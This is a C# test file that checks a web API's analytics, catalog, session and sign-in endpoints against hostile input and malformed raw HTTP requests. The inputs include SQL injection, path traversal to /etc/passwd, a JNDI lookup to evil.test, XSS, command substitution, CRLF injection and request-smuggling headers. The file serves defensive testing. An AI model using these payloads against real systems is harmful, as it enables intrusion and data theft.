using System.Net;
using System.Net.Sockets;
using System.Text;
using ClickFuncs.Api.Tests.Hosting;

namespace ClickFuncs.Api.Tests.SignIn;

/// <summary>What attackers put where the API reads something: it answers with a problem, and with nothing of its inside.</summary>
public sealed class HostileInputTests
{
    private static readonly string[] Payloads =
    [
        "' OR '1'='1", "'; DROP TABLE minutes; --", "\" OR \"\"=\"", "1) UNION SELECT * FROM keys --", "adv_2' /*", "%", "_", "\\", "../../etc/passwd",
        "${jndi:ldap://evil.test/a}", "<script>alert(1)</script>", "{{7*7}}", "$(id)", "\r\nSet-Cookie: a=b", "\0", "\u202E", "\uFFFD", "💥",
        "-1", "9999999999999999999999", "NaN", "1e309", "0x10", "null", "true", "[]", "{}", new string('a', 4000), new string('9', 4000), new string(',', 2000),
    ];

    private static readonly string[] Parameters =
        ["advertiser_id", "start_time", "end_time", "granularity", "group_by", "accuracy", "fill", "campaign_id", "ad_group_id", "ad_id", "creative_id", "device", "country", "no_such"];

    [Fact]
    public async Task Analytics_HostileValueInAnyParameter_IsAnsweredCleanly()
    {
        await using var host = await ApiHost.StartAsync();
        foreach (var parameter in Parameters)
        {
            foreach (var payload in Payloads)
            {
                var values = new Dictionary<string, string>
                {
                    ["advertiser_id"] = "adv_2", ["start_time"] = "2026-07-01", ["end_time"] = "2026-07-02", ["granularity"] = "1d", [parameter] = payload,
                };
                var query = string.Join('&', values.Select(pair => $"{pair.Key}={Uri.EscapeDataString(pair.Value)}"));
                await AssertCleanAsync(host, $"/api/v1/advertisers/analytics?{query}");
            }
        }
    }

    [Theory]
    [InlineData("/api/v1/catalog/advertisers?limit=")]
    [InlineData("/api/v1/catalog/advertisers?after=")]
    [InlineData("/api/v1/session?x=")]
    [InlineData("/signin/once/")]
    [InlineData("/health?x=")]
    [InlineData("/?x=")]
    public async Task Path_HostileValue_IsAnsweredCleanly(string path)
    {
        await using var host = await ApiHost.StartAsync();
        foreach (var payload in Payloads)
            await AssertCleanAsync(host, path + Uri.EscapeDataString(payload));
    }

    [Theory]
    [InlineData("GET /metrics HTTP/1.1\r\nHost: localhost\r\nX-Big: {40000}\r\n\r\n", 431)]
    [InlineData("GET /metrics HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {40000}\r\n\r\n", 431)]
    [InlineData("GET /metrics HTTP/1.1\r\nHost: localhost\r\nCookie: cf_session={40000}\r\n\r\n", 431)]
    [InlineData("GET /{20000} HTTP/1.1\r\nHost: localhost\r\n\r\n", 414)]
    [InlineData("GET /metrics HTTP/1.1\r\nHost: localhost\r\nNo colon\r\n\r\n", 400)]
    [InlineData("GET /metrics HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer a\0b\r\n\r\n", 400)]
    [InlineData("GET /metrics HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", 400)]
    [InlineData("GET /metrics HTTP/1.1\r\n\r\n", 400)]
    [InlineData("GET http://evil.test/api/v1/session HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n", 401)]
    [InlineData("POST /signin HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n", 400)]
    [InlineData("POST /signin HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: -1\r\n\r\n", 400)]
    [InlineData("nonsense\r\n\r\n", 400)]
    public async Task Request_Malformed_IsRefusedByItsForm(string request, int status)
    {
        await using var host = await ApiHost.StartAsync(settings: ("SignIn:OpenMetricsOnLoopback", "false"));
        using var client = new TcpClient();
        await client.ConnectAsync(host.Client.BaseAddress!.Host, host.Client.BaseAddress.Port);
        await using var stream = client.GetStream();
        foreach (var length in (int[])[20_000, 40_000])
            request = request.Replace($"{{{length}}}", new string('a', length), StringComparison.Ordinal);
        await stream.WriteAsync(Encoding.UTF8.GetBytes(request));

        using var reader = new StreamReader(stream, Encoding.ASCII);
        var line = await reader.ReadLineAsync();

        Assert.StartsWith($"HTTP/1.1 {status} ", line, StringComparison.Ordinal);
    }

    private static async Task AssertCleanAsync(ApiHost host, string path)
    {
        using var answer = await host.GetAsOperatorAsync(path);
        var body = await answer.Content.ReadAsStringAsync();
        Assert.True((int)answer.StatusCode is 200 or 400 or 404 or 410, $"{answer.StatusCode} for {path}: {body}");
        // What the server can't even read as a path is refused before there is a request to answer.
        if (answer.StatusCode != HttpStatusCode.OK && answer.Headers.Contains("X-Request-Id"))
            Assert.Equal("application/problem+json", answer.Content.Headers.ContentType?.MediaType);
        Assert.DoesNotContain("Exception", body, StringComparison.Ordinal);
        Assert.DoesNotContain("   at ", body, StringComparison.Ordinal);
        Assert.False(answer.Headers.Contains("Set-Cookie"), path);
    }
}
